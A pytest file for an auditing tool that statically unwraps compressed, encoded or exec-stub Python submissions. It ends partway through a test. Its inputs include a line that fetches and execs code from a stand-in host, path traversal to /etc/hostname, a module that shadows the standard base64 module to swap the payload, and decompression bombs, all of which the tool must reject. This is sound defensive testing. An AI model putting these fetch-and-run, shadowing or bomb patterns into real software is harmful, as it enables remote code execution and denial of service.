"""Static unwrapping of self-extracting submission code (pgolf_audit.unwrap).

Wrapped inputs are built here with lzma/zlib/bz2/base64 so every case stays readable. The
payloads are short training-script fragments written for these tests.
"""

from __future__ import annotations

import ast
import base64
import binascii
import builtins
import bz2
import gzip
import lzma
import os
import random
import sys
import time
import tracemalloc
import warnings
import zlib
from pathlib import Path

import pytest

from pgolf_audit import unwrap_interpreter as unwrap_module  # the decoders live with the interpreter
from pgolf_audit.unwrap import (
    FolderReader,
    UnwrapError,
    looks_like_wrapper,
    simple_string_value,
    unwrap,
    unwrap_file,
)
from pgolf_audit.wrappers import make_wrapper

TRAIN_SNIPPET = '''"""Compact GPT trainer for the 16 MB track."""
import math
import os
import time

import torch
import torch.nn.functional as F
from torch import nn

VOCAB_SIZE = int(os.environ.get("VOCAB_SIZE", 8192))
MODEL_DIM = 512
NUM_LAYERS = 11


class RMSNorm(nn.Module):
    def forward(self, x):
        return F.rms_norm(x, (x.size(-1),))


class Block(nn.Module):
    def __init__(self, dim, heads):
        super().__init__()
        self.norm = RMSNorm()
        self.qkv = nn.Linear(dim, 3 * dim, bias=False)
        self.proj = nn.Linear(dim, dim, bias=False)
        self.heads = heads

    def forward(self, x):
        q, k, v = self.qkv(self.norm(x)).chunk(3, dim=-1)
        b, t, _ = x.shape
        q, k, v = (z.view(b, t, self.heads, -1).transpose(1, 2) for z in (q, k, v))
        y = F.scaled_dot_product_attention(q, k, v, is_causal=True)
        return x + self.proj(y.transpose(1, 2).reshape(b, t, -1))


def lr_schedule(step, total, warmdown=0.35):
    frac = step / max(total, 1)
    return 1.0 if frac < 1 - warmdown else max((1 - frac) / warmdown, 0.0)


def main():
    torch.manual_seed(int(os.environ.get("SEED", 1337)))
    blocks = nn.ModuleList(Block(MODEL_DIM, 8) for _ in range(NUM_LAYERS))
    t0 = time.perf_counter()
    scale = 1.0
    for step in range(20):
        scale = lr_schedule(step, 20)
    print(f"train_time:{(time.perf_counter() - t0) * 1000:.0f}ms scale:{scale:.3f} layers:{len(blocks)}")


if __name__ == "__main__":
    main()
'''

ENTRY = "train_gpt.py"


def no_siblings(path: str) -> str | None:
    """An empty record folder besides the entry (the unwrapper probes it for module files
    that would shadow the decoders a wrapper imports)."""
    if not path.endswith((".py", "/__init__.py")):
        raise AssertionError(f"unexpected sibling read of {path}")
    return None


def folder(files: dict[str, str | bytes]):
    """A read_sibling over an in-memory record folder that records what was asked for."""
    asked: list[str] = []

    def read(path: str) -> str | bytes | None:
        asked.append(path)
        return files.get(path)

    read.asked = asked  # type: ignore[attr-defined]
    return read


def raw_lzma2(data: bytes, preset: int = 9) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": preset}])


def b85(data: bytes) -> str:
    return base64.b85encode(data).decode("ascii")


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


SNIPPET_BYTES = TRAIN_SNIPPET.encode()


def exec_line(wrapper: str) -> int:
    """1-based line of the first exec/eval call in a wrapper."""
    position = min(i for i in (wrapper.find("exec("), wrapper.find("eval(")) if i >= 0)
    return wrapper.count("\n", 0, position) + 1


# ---------------------------------------------------------------------------------------
# Codecs


@pytest.mark.parametrize(
    "codec, expected_codecs, expected_words",
    [
        ("lzma-raw+b85", ("base85", "lzma-raw-lzma2"), "lzma (raw LZMA2) + base85"),
        ("lzma+b85", ("base85", "lzma-xz"), "lzma (xz) + base85"),
        ("lzma-alone+b64", ("base64", "lzma-alone"), "lzma (alone) + base64"),
        ("zlib+b64", ("base64", "zlib"), "zlib + base64"),
        ("zlib-raw+b85", ("base85", "zlib-raw"), "zlib (raw deflate) + base85"),
        ("gzip+b64", ("base64", "gzip"), "gzip + base64"),
        ("bz2+b85", ("base85", "bz2"), "bz2 + base85"),
        ("lzma+a85", ("ascii85", "lzma-xz"), "lzma (xz) + ascii85"),
        ("zlib+b32", ("base32", "zlib"), "zlib + base32"),
        ("lzma+urlsafe-b64", ("base64-urlsafe", "lzma-xz"), "lzma (xz) + urlsafe base64"),
        ("zlib+hex", ("hex", "zlib"), "zlib + hex"),
        ("b85", ("base85",), "base85"),
    ],
)
def test_every_codec_round_trips(codec, expected_codecs, expected_words):
    wrapper = make_wrapper(TRAIN_SNIPPET, codec=codec)
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET
    assert result.wrapped and len(result.layers) == 1
    layer = result.layers[0]
    assert layer.file == ENTRY and layer.line == 2
    assert layer.codecs == expected_codecs
    assert layer.description == expected_words
    assert layer.output_bytes == len(SNIPPET_BYTES)
    assert result.origin == ENTRY and result.entry_bytes == len(wrapper.encode())
    assert result.wrapper_name() == f"{expected_words} self-extracting wrapper in {ENTRY}"
    assert result.module is not None and result.module.code == TRAIN_SNIPPET


def test_plain_hex_wrapper_without_imports():
    wrapper = make_wrapper(TRAIN_SNIPPET, codec="none+hex", decode_text=True)
    assert wrapper.startswith("exec(bytes.fromhex(")
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET and result.layers[0].line == 1


def test_raw_lzma2_with_filter_chain_and_dict_form():
    filters = [{"id": lzma.FILTER_DELTA, "dist": 1}, {"id": lzma.FILTER_LZMA2, "dict_size": 1 << 22, "lc": 3}]
    payload = b85(lzma.compress(SNIPPET_BYTES, format=lzma.FORMAT_RAW, filters=filters))
    wrapper = (
        "import lzma as L, base64 as B\n"
        "F = [dict(id=L.FILTER_DELTA, dist=1), {'id': L.FILTER_LZMA2, 'dict_size': 1 << 22, 'lc': 3}]\n"
        f'exec(L.decompress(B.b85decode("{payload}"), format=L.FORMAT_RAW, filters=F).decode("utf-8"))\n'
    )
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET
    assert result.layers[0].codecs == ("base85", "lzma-raw-delta+lzma2")
    assert result.layers[0].description == "lzma (raw delta+LZMA2) + base85"
    assert result.layers[0].line == 3


def test_raw_lzma2_preset_extreme_as_submissions_write_it():
    payload = b85(lzma.compress(SNIPPET_BYTES, format=lzma.FORMAT_RAW,
                                filters=[{"id": lzma.FILTER_LZMA2, "preset": 9 | lzma.PRESET_EXTREME}]))
    wrapper = (f'import lzma as L,base64 as B\nexec(L.decompress(B.b85decode("{payload}"),'
               'format=L.FORMAT_RAW,filters=[{"id":L.FILTER_LZMA2,"preset":9|L.PRESET_EXTREME}]))')
    assert unwrap(ENTRY, wrapper, no_siblings).source == TRAIN_SNIPPET


def test_raw_format_without_filters_is_an_error():
    payload = b85(raw_lzma2(SNIPPET_BYTES))
    wrapper = f'import lzma,base64\nexec(lzma.decompress(base64.b85decode("{payload}"),format=lzma.FORMAT_RAW))\n'
    with pytest.raises(UnwrapError, match="FORMAT_RAW needs filters") as info:
        unwrap(ENTRY, wrapper, no_siblings)
    assert info.value.file == ENTRY and info.value.line == 2


@pytest.mark.parametrize("wbits, tag", [(-15, "zlib-raw"), (31, "zlib-gzip"), (47, "zlib-auto"), (15, "zlib")])
def test_zlib_window_bits(wbits, tag):
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits if wbits != 47 else 31)
    payload = b64(compressor.compress(SNIPPET_BYTES) + compressor.flush())
    wrapper = f'import zlib, base64\nexec(zlib.decompress(base64.b64decode("{payload}"), {wbits}))\n'
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET and result.layers[0].codecs == ("base64", tag)


def test_decompressor_objects():
    raw = b85(raw_lzma2(SNIPPET_BYTES))
    wrapper = (
        "import lzma as L, base64 as B\n"
        f'exec(L.LZMADecompressor(L.FORMAT_RAW, None, [{{"id": L.FILTER_LZMA2}}]).decompress(B.b85decode("{raw}")))\n'
    )
    assert unwrap(ENTRY, wrapper, no_siblings).layers[0].codecs == ("base85", "lzma-raw-lzma2")
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = b64(deflated.compress(SNIPPET_BYTES) + deflated.flush())
    wrapper = f'import zlib as Z, base64 as B\nexec(Z.decompressobj(-15).decompress(B.b64decode("{payload}")))\n'
    assert unwrap(ENTRY, wrapper, no_siblings).source == TRAIN_SNIPPET
    wrapper = f'import bz2, base64\nexec(bz2.BZ2Decompressor().decompress(base64.b85decode("{b85(bz2.compress(SNIPPET_BYTES))}")))\n'
    assert unwrap(ENTRY, wrapper, no_siblings).layers[0].codecs == ("base85", "bz2")


def test_codecs_module_binascii_and_rot13():
    zipped = base64.encodebytes(zlib.compress(SNIPPET_BYTES)).decode("ascii")
    wrapper = (
        "import codecs\n"
        f"exec(codecs.decode(codecs.decode({zipped!r}.encode(), 'base64'), 'zlib').decode())\n"
    )
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET and result.layers[0].codecs == ("base64", "zlib")

    hexed = binascii.hexlify(lzma.compress(SNIPPET_BYTES)).decode()
    wrapper = f"import binascii, lzma\nexec(lzma.decompress(binascii.unhexlify('{hexed}')))\n"
    assert unwrap(ENTRY, wrapper, no_siblings).layers[0].codecs == ("hex", "lzma-xz")

    rotated = TRAIN_SNIPPET.translate(str.maketrans(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
        "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"))
    encoded = b64(rotated.encode())
    wrapper = f"import codecs, base64\nexec(codecs.decode(base64.b64decode('{encoded}').decode(), 'rot13'))\n"
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET and result.layers[0].codecs == ("base64", "rot13")


def test_gzip_members_and_str_decode():
    payload = b85(gzip.compress(SNIPPET_BYTES[:500], mtime=0) + gzip.compress(SNIPPET_BYTES[500:], mtime=0))
    wrapper = f'import gzip, base64\nexec(str(gzip.decompress(base64.b85decode("{payload}")), "utf-8"))\n'
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET and result.layers[0].codecs == ("base85", "gzip")


# ---------------------------------------------------------------------------------------
# Literal and import spellings


def test_literal_decoder_matches_python():
    tokens = [
        r'"a\nb\tc"', r"'\x41\101\u00e9\N{GREEK SMALL LETTER ALPHA}\U0001F600'", r'b"\x80\xff\n\0"',
        r"r'\n\x41'", r"rb'\x00'", '"""multi\nline"""', "'joined \\\nline'", "u'plain'", "B'abc'",
        r"'\q unknown escape'", "'''it''s'''", r'"quote \" inside"', r"Rb'\d+'", "'\\\\'",
    ]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for token in tokens:
            assert simple_string_value(token) == ast.literal_eval(token), token


def test_split_and_concatenated_literals():
    payload = b85(raw_lzma2(SNIPPET_BYTES))
    parts = [payload[i:i + 70] for i in range(0, len(payload), 70)]
    filters = 'format=L.FORMAT_RAW, filters=[{"id": L.FILTER_LZMA2}]'
    implicit = "import lzma as L, base64 as B\nD = (\n" + "\n".join(f'    "{p}"' for p in parts) + "\n)\n" \
        f"exec(L.decompress(B.b85decode(D), {filters}))\n"
    plus = "import lzma as L, base64 as B\nexec(L.decompress(B.b85decode(" + " +\n    ".join(f'"{p}"' for p in parts) + \
        f"), {filters}))\n"
    augmented = "import lzma as L, base64 as B\nD = ''\n" + "".join(f"D += '{p}'\n" for p in parts) + \
        f"exec(L.decompress(B.b85decode(D), {filters}))\n"
    triple = "import lzma as L, base64 as B\nD = r'''\n" + "\n".join(parts) + "\n'''\n" \
        f"exec(L.decompress(B.b85decode(D.replace('\\n', '')), {filters}))\n"
    as_bytes = "import lzma as L, base64 as B\nD = (\n" + "\n".join(f"    b'{p}'" for p in parts) + "\n)\n" \
        f"exec(L.decompress(B.b85decode(D), {filters}))\n"
    joined = "import lzma as L, base64 as B\nexec(L.decompress(B.b85decode(''.join([" + \
        ", ".join(f"'{p}'" for p in parts) + f"])), {filters}))\n"
    for wrapper in (implicit, plus, augmented, triple, as_bytes, joined):
        result = unwrap(ENTRY, wrapper, no_siblings)
        assert result.source == TRAIN_SNIPPET
        assert result.layers[0].line == exec_line(wrapper)


def test_base64_with_line_breaks_in_a_triple_quoted_literal():
    encoded = base64.encodebytes(zlib.compress(SNIPPET_BYTES)).decode()  # 76-column lines
    wrapper = f'import zlib, base64\nPAYLOAD = """\n{encoded}"""\nexec(zlib.decompress(base64.b64decode(PAYLOAD)))\n'
    assert unwrap(ENTRY, wrapper, no_siblings).source == TRAIN_SNIPPET


def test_ascii85_literal_with_escaped_quotes_and_backslashes():
    wrapper = make_wrapper(TRAIN_SNIPPET, codec="bz2+a85", line_width=64)
    assert "\\" in wrapper  # the a85 alphabet needs escapes in a Python literal
    assert unwrap(ENTRY, wrapper, no_siblings).source == TRAIN_SNIPPET


@pytest.mark.parametrize(
    "template",
    [
        "from lzma import decompress as d, FORMAT_RAW as RAW, FILTER_LZMA2\nfrom base64 import b85decode\n"
        'D = "{raw}"\nexec(d(b85decode(D), format=RAW, filters=[{{"id": FILTER_LZMA2, "preset": 9}}]))\n',
        'exec(__import__("lzma").decompress(__import__("base64").b85decode("{xz}")))\n',
        'import importlib\nexec(importlib.import_module("lzma").decompress(importlib.import_module("base64").b85decode("{xz}")))\n',
        'from base64 import *\nfrom lzma import *\nexec(decompress(b85decode("{xz}")))\n',
        'import lzma, base64 as b\nexec(compile(lzma.decompress(b.b85decode("{xz}")), "<train_gpt>", "exec"))\n',
        'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{xz}")), globals())\n',
        'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{xz}")), {{"__name__": "__main__"}})\n',
        'import lzma, base64\neval(compile(lzma.decompress(base64.b85decode("{xz}")), "train_gpt.py", "exec"))\n',
        'import lzma, base64\nif __name__ == "__main__":\n    exec(lzma.decompress(base64.b85decode("{xz}")))\n',
        '#!/usr/bin/env python3\n# -*- coding: utf-8 -*-\n"""Self-extracting trainer: the readable source is in the PR."""\n'
        '__version__ = "1.4"\nimport lzma; import base64\nexec(lzma.decompress(base64.b85decode("{xz}")).decode())\n',
        'import builtins, lzma, base64\nbuiltins.exec(lzma.decompress(base64.b85decode(b"{xz}")))\n',
    ],
)
def test_wrapper_spellings(template):
    wrapper = template.format(raw=b85(raw_lzma2(SNIPPET_BYTES)), xz=b85(lzma.compress(SNIPPET_BYTES)))
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET
    assert result.layers[0].line == exec_line(wrapper)


def test_layer_imports_are_recorded():
    wrapper = "import lzma as L, base64 as B\nfrom os import path\nimport zlib\n" + make_wrapper(TRAIN_SNIPPET).split("\n", 1)[1]
    layer = unwrap(ENTRY, wrapper, no_siblings).layers[0]
    assert [(i.module, i.names, i.line) for i in layer.imports] == [
        ("lzma", (), 1), ("base64", (), 1), ("os", ("path",), 2), ("zlib", (), 3)]


@pytest.mark.parametrize("shadow", ["base64.py", "lzma/__init__.py"])
def test_a_folder_module_shadowing_a_decoder_fails_closed(shadow):
    # base64.py in the record folder would be imported instead of the standard module, so
    # decoding with the standard one would show code that never runs
    wrapper = make_wrapper(TRAIN_SNIPPET, codec="lzma+b85")
    read = folder({shadow: "def b85decode(s):\n    return open('real_payload.xz', 'rb').read()\n"})
    with pytest.raises(UnwrapError, match=f"has its own {shadow}, which would run instead") as info:
        unwrap(ENTRY, wrapper, read)
    assert info.value.line == 1
    # modules loaded at interpreter start-up cannot be replaced that way
    stub = 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "train_gpt_decode.py")).read())\n'
    assert unwrap(ENTRY, stub, folder({"os.py": "", DECODE: TRAIN_SNIPPET})).source == TRAIN_SNIPPET


# ---------------------------------------------------------------------------------------
# Nesting


def test_nested_three_layers():
    inner = make_wrapper(TRAIN_SNIPPET, codec="zlib+b64")
    middle = "# stage two\n" + make_wrapper(inner, codec="bz2+a85")
    outer = make_wrapper(middle, codec="lzma-raw+b85")
    result = unwrap(ENTRY, outer, no_siblings)
    assert result.source == TRAIN_SNIPPET
    assert [layer.codecs for layer in result.layers] == [
        ("base85", "lzma-raw-lzma2"), ("ascii85", "bz2"), ("base64", "zlib")]
    assert [layer.line for layer in result.layers] == [2, 3, 2]
    assert [layer.output_bytes for layer in result.layers] == [len(middle), len(inner), len(SNIPPET_BYTES)]
    assert all(layer.file == ENTRY for layer in result.layers)
    assert result.wrapper_name().startswith("lzma (raw LZMA2) + base85 self-extracting wrapper in train_gpt.py (3 layers")


def test_depth_cap():
    text = TRAIN_SNIPPET
    for _ in range(3):
        text = make_wrapper(text, codec="zlib+b64")
    assert len(unwrap(ENTRY, text, no_siblings, max_depth=3).layers) == 3
    with pytest.raises(UnwrapError, match="nesting exceeds 2 layers") as info:
        unwrap(ENTRY, text, no_siblings, max_depth=2)
    assert info.value.layer == 2
    for _ in range(6):
        text = make_wrapper(text, codec="zlib+b64")
    with pytest.raises(UnwrapError, match="nesting exceeds 8 layers"):
        unwrap(ENTRY, text, no_siblings)


# ---------------------------------------------------------------------------------------
# Exec-a-sibling stubs

DECODE = "train_gpt_decode.py"


@pytest.mark.parametrize(
    "stub, sibling",
    [
        ('exec(open(__file__.replace("train_gpt.py","train_gpt_decode.py")).read())\n', DECODE),
        ('import os\nexec(open(os.path.join(os.path.dirname(__file__), "train_gpt_decode.py")).read())\n', DECODE),
        ('from pathlib import Path\nexec(Path(__file__).with_name("train_gpt_decode.py").read_text())\n', DECODE),
        ('from pathlib import Path\nexec((Path(__file__).resolve().parent / "train_gpt_decode.py").read_text(encoding="utf-8"))\n', DECODE),
        ('with open("train_gpt_decode.py") as f:\n    exec(f.read())\n', DECODE),
        ('import os.path as osp\nexec(compile(open(osp.join(osp.dirname(osp.abspath(__file__)), "src", "train.py")).read(), "src/train.py", "exec"))\n',
         "src/train.py"),
    ],
)
def test_exec_sibling_stubs(stub, sibling):
    read = folder({sibling: TRAIN_SNIPPET})
    result = unwrap(ENTRY, stub, read)
    assert result.source == TRAIN_SNIPPET
    assert result.origin == sibling and result.runtime_file == ENTRY  # exec keeps the stub's globals
    layer = result.layers[0]
    assert layer.sibling == sibling and layer.codecs == () and layer.file == ENTRY
    assert result.wrapper_name() == f"exec stub in train_gpt.py running {sibling}"
    # besides the sibling, only probes for a shadowing pathlib module
    assert read.asked.count(sibling) == 1
    assert set(read.asked) <= {sibling, "pathlib.py", "pathlib/__init__.py"}


def test_runpy_stub_runs_the_sibling_as_its_own_file():
    stub = 'import runpy\nrunpy.run_path("train_gpt_decode.py", run_name="__main__")\n'
    result = unwrap(ENTRY, stub, folder({DECODE: TRAIN_SNIPPET}))
    assert result.origin == DECODE and result.runtime_file == DECODE and result.source == TRAIN_SNIPPET


def test_stub_to_a_wrapped_sibling():
    sibling_text = make_wrapper(TRAIN_SNIPPET, codec="lzma+b85")
    stub = 'exec(open(__file__.replace("train_gpt.py","train_gpt_decode.py")).read())\n'
    result = unwrap(ENTRY, stub, folder({DECODE: sibling_text}))
    assert result.source == TRAIN_SNIPPET and result.origin == DECODE
    assert [(layer.file, layer.sibling, layer.codecs) for layer in result.layers] == [
        (ENTRY, DECODE, ()), (DECODE, None, ("base85", "lzma-xz"))]


def test_binary_sibling_read():
    blob = lzma.compress(SNIPPET_BYTES)
    stub = 'import lzma\nexec(lzma.decompress(open("code.xz", "rb").read()))\n'
    read = folder({"code.xz": blob.decode("utf-8", "surrogateescape")})
    result = unwrap(ENTRY, stub, read)
    assert result.source == TRAIN_SNIPPET and result.origin == "code.xz"
    assert result.layers[0].description == "lzma (xz) of code.xz"


@pytest.mark.parametrize(
    "stub, message",
    [
        ('exec(open("../2026-04-01_Other/train_gpt.py").read())\n', "leaves the record folder"),
        ('exec(open("/etc/hostname").read())\n', "outside the record folder"),
        ('exec(open(__file__.replace("train_gpt.py", "missing.py")).read())\n', "missing.py is not a file of the record folder"),
        ('exec(open("train_gpt_decode.py", "w").read())\n', "mode 'w' is not supported"),
    ],
)
def test_sibling_paths_stay_inside_the_folder(stub, message):
    read = folder({DECODE: TRAIN_SNIPPET})
    with pytest.raises(UnwrapError, match=message):
        unwrap(ENTRY, stub, read)
    assert all(not p.startswith(("/", "..")) for p in read.asked)


def test_unwrap_file_reads_siblings_from_its_folder(tmp_path):
    record = tmp_path / "2026-04-06_SP8192_Stub"
    record.mkdir()
    (record / ENTRY).write_text('exec(open(__file__.replace("train_gpt.py","train_gpt_decode.py")).read())\n')
    (record / DECODE).write_text(TRAIN_SNIPPET)
    result = unwrap_file(record / ENTRY)
    assert result.source == TRAIN_SNIPPET and result.origin == DECODE and result.entry_bytes == 74


def test_unwrap_file_refuses_links_out_of_the_folder_and_special_files(tmp_path):
    record = tmp_path / "record"
    record.mkdir()
    outside = tmp_path / "secret.py"
    outside.write_text("TOKEN = 'do not read'\n")
    (record / ENTRY).write_text('exec(open("train_gpt_decode.py").read())\n')
    (record / DECODE).symlink_to(outside)
    with pytest.raises(UnwrapError, match="link that leaves the record folder"):
        unwrap_file(record / ENTRY)
    (record / DECODE).unlink()
    os.mkfifo(record / DECODE)  # opening a FIFO would block forever
    with pytest.raises(UnwrapError, match="not a regular file"):
        unwrap_file(record / ENTRY)
    (record / DECODE).unlink()
    (record / DECODE).write_text(TRAIN_SNIPPET)
    with pytest.raises(UnwrapError, match="larger than"):
        unwrap_file(record / ENTRY, max_file_bytes=1000)
    assert FolderReader(record).list_files() == {ENTRY: 41, DECODE: len(SNIPPET_BYTES)}


# ---------------------------------------------------------------------------------------
# Not wrappers


def test_plain_script_that_execs_data_cannot_be_read():
    # exec of a file chosen at run time: what runs is not in the folder's readable code
    script = TRAIN_SNIPPET.replace(
        "def main():",
        "def load_overrides(path):\n    namespace = {}\n    exec(open(path).read(), namespace)\n    return namespace\n\n\ndef main():",
    )
    with pytest.raises(UnwrapError, match=r"runs code that is not a literal \(exec\(open\(path\)"):
        unwrap(ENTRY, script, no_siblings)


def test_top_level_sibling_exec_among_other_code_is_read_in_place():
    script = 'import os\nCONFIG = {}\nexec(open("config_overrides.py").read())\nprint(CONFIG)\n'
    siblings = {"config_overrides.py": "LR = 0.1\n"}
    result = unwrap(ENTRY, script, siblings.get)
    assert result.source == 'import os\nCONFIG = {}\nLR = 0.1\nprint(CONFIG)\n'
    assert result.layers[0].sibling == "config_overrides.py" and result.layers[0].line == 3
    with pytest.raises(UnwrapError, match="runs code that is not a literal"):
        unwrap(ENTRY, script, no_siblings)  # the file it runs is missing
    # run in a namespace of its own, the sibling's code is not the script's code: not inlined
    namespaced = script.replace(".read())", ".read(), CONFIG)")
    with pytest.raises(UnwrapError, match="runs code that is not a literal"):
        unwrap(ENTRY, namespaced, siblings.get)


def test_big_readable_script_without_exec_is_not_parsed():
    script = synthetic_training_source(300) + "\nblob = lzma.decompress(data)\nmodel.eval()\n"
    assert not looks_like_wrapper(script)
    result = unwrap(ENTRY, script, no_siblings)
    assert result.module is None and result.source is script


# ---------------------------------------------------------------------------------------
# Errors (fail closed)


def test_unsupported_call_in_exec_argument():
    payload = b85(lzma.compress(SNIPPET_BYTES))
    wrapper = f'import lzma, base64, requests\n\nexec(lzma.decompress(base64.b85decode(requests.get("https://x.invalid/p").content)))\n'
    with pytest.raises(UnwrapError, match=r"unsupported call requests\.get\(\) in exec argument") as info:
        unwrap(ENTRY, wrapper, no_siblings)
    assert (info.value.file, info.value.line) == (ENTRY, 3)
    assert str(info.value).startswith("train_gpt.py line 3: ")
    wrapper = f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{payload}")).decode().upper())\n'
    with pytest.raises(UnwrapError, match="unsupported attribute"):
        unwrap(ENTRY, wrapper, no_siblings)


def test_corrupt_and_truncated_data():
    xz = bytearray(lzma.compress(SNIPPET_BYTES))
    xz[len(xz) // 2] ^= 0x55
    wrapper = f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{b85(bytes(xz))}")))\n'
    with pytest.raises(UnwrapError, match="lzma data is corrupt") as info:
        unwrap(ENTRY, wrapper, no_siblings)
    assert info.value.line == 2
    truncated = lzma.compress(SNIPPET_BYTES)[:-40]
    wrapper = f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{b85(truncated)}")))\n'
    with pytest.raises(UnwrapError, match="lzma data is (truncated|corrupt)"):
        unwrap(ENTRY, wrapper, no_siblings)
    zipped = bytearray(zlib.compress(SNIPPET_BYTES))
    zipped[-1] ^= 0xFF  # adler32 mismatch
    wrapper = f'import zlib, base64\nexec(zlib.decompress(base64.b64decode("{b64(bytes(zipped))}")))\n'
    with pytest.raises(UnwrapError, match="zlib data is corrupt"):
        unwrap(ENTRY, wrapper, no_siblings)
    wrapper = 'import zlib, base64\nexec(zlib.decompress(base64.b85decode("not base85 at all")))\n'
    with pytest.raises(UnwrapError, match="base85 data is invalid"):
        unwrap(ENTRY, wrapper, no_siblings)
    wrapper = f'import bz2, base64\nexec(bz2.decompress(base64.b85decode("{b85(bz2.compress(SNIPPET_BYTES)[:-10])}")))\n'
    with pytest.raises(UnwrapError, match="bz2 data is truncated"):
        unwrap(ENTRY, wrapper, no_siblings)


def test_decoded_text_that_is_not_python_or_not_utf8():
    broken = make_wrapper("def train(model:\n    return model\n", codec="lzma+b85")
    with pytest.raises(UnwrapError, match="not valid Python") as info:
        unwrap(ENTRY, broken, no_siblings)
    assert (info.value.file, info.value.line, info.value.layer) == (ENTRY, 2, 0)
    latin = b85(lzma.compress(b"# caf\xe9\nprint(1)\n"))
    wrapper = f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{latin}")))\n'
    with pytest.raises(UnwrapError, match="not utf-8 text"):
        unwrap(ENTRY, wrapper, no_siblings)
    # a coding cookie is honoured, as exec would
    cookie = b85(lzma.compress(b"# -*- coding: latin-1 -*-\n# caf\xe9\nprint(1)\n"))
    wrapper = f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{cookie}")))\n'
    assert "café" in unwrap(ENTRY, wrapper, no_siblings).source


def test_wrapper_shapes_that_fail_closed():
    payload = b85(lzma.compress(SNIPPET_BYTES))
    # an exec of encoded data among other code is an embedded payload: read in place
    among_code = f'import lzma, base64\nprint("unpacking")\nexec(lzma.decompress(base64.b85decode("{payload}")))\n'
    embedded = unwrap(ENTRY, among_code, no_siblings)
    assert embedded.layers[0].line == 3 and "embedded payload" in embedded.layers[0].description
    assert embedded.source.startswith('import lzma, base64\nprint("unpacking")\n' + SNIPPET_BYTES.decode())
    two_execs = f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{payload}")))\nexec("print(1)")\n'
    with pytest.raises(UnwrapError, match=r"2 exec calls \(lines 2, 3\)"):
        unwrap(ENTRY, two_execs, no_siblings)
    fstring = 'import lzma, base64\nP = "abc"\nexec(lzma.decompress(base64.b85decode(f"{P}")))\n'
    with pytest.raises(UnwrapError, match="f-strings are not supported"):
        unwrap(ENTRY, fstring, no_siblings)
    marshalled = 'import marshal, base64\nexec(marshal.loads(base64.b64decode("4wAAAAA=")))\n'
    with pytest.raises(UnwrapError, match=r"unsupported call marshal\.loads\(\)"):
        unwrap(ENTRY, marshalled, no_siblings)
    with pytest.raises(UnwrapError, match="eval\\(\\) of an expression"):
        unwrap(ENTRY, 'import base64\neval(base64.b64decode("MSsx"))\n', no_siblings)


def test_literal_size_cap():
    wrapper = make_wrapper(TRAIN_SNIPPET, codec="zlib+b64")
    with pytest.raises(UnwrapError, match="literal larger than the 256 bytes literal limit"):
        unwrap(ENTRY, wrapper, no_siblings, max_literal_bytes=256)


# ---------------------------------------------------------------------------------------
# Decompression bombs


def _bomb_wrapper(kind: str) -> str:
    if kind == "xz":  # 64 concatenated xz streams of 16 MiB of zeros: 1 GiB
        stream = lzma.compress(bytes(16 << 20), preset=0)
        return f'import lzma, base64\nexec(lzma.decompress(base64.b85decode("{b85(stream * 64)}")))\n'
    if kind == "raw":  # 24 MiB of zeros as one raw LZMA2 stream
        data = lzma.compress(bytes(24 << 20), format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": 0}])
        return ('import lzma as L, base64 as B\n'
                f'exec(L.decompress(B.b85decode("{b85(data)}"), format=L.FORMAT_RAW, filters=[{{"id": L.FILTER_LZMA2}}]))\n')
    if kind == "zlib":  # 256 identical full-flush deflate segments of 1 MiB of zeros: 256 MiB
        compressor = zlib.compressobj(9)
        first = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
        segment = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
        return f'import zlib, base64\nexec(zlib.decompress(base64.b85decode("{b85(first + segment * 255)}")))\n'
    if kind == "bz2":  # 64 bz2 streams of 16 MiB of zeros: 1 GiB
        stream = bz2.compress(bytes(16 << 20), 1)
        return f'import bz2, base64\nexec(bz2.decompress(base64.b85decode("{b85(stream * 64)}")))\n'
    if kind == "gzip":  # 4 gzip members of 16 MiB of zeros
        member = gzip.compress(bytes(16 << 20), 1, mtime=0)
        return f'import gzip, base64\nexec(gzip.decompress(base64.b85decode("{b85(member * 4)}")))\n'
    raise ValueError(kind)


@pytest.mark.parametrize("kind", ["xz", "raw", "zlib", "bz2", "gzip"])
def test_decompression_bomb_stops_at_the_cap(kind):
    wrapper = _bomb_wrapper(kind)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(UnwrapError, match="decoded output exceeds 16 MiB") as info:
            unwrap(ENTRY, wrapper, no_siblings)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert info.value.line == 2
    assert elapsed < 5.0
    assert peak < 80 << 20, f"peak {peak >> 20} MiB while refusing a bomb"


def test_smaller_cap_stops_earlier():
    wrapper = _bomb_wrapper("xz")
    with pytest.raises(UnwrapError, match="decoded output exceeds 1 MiB"):
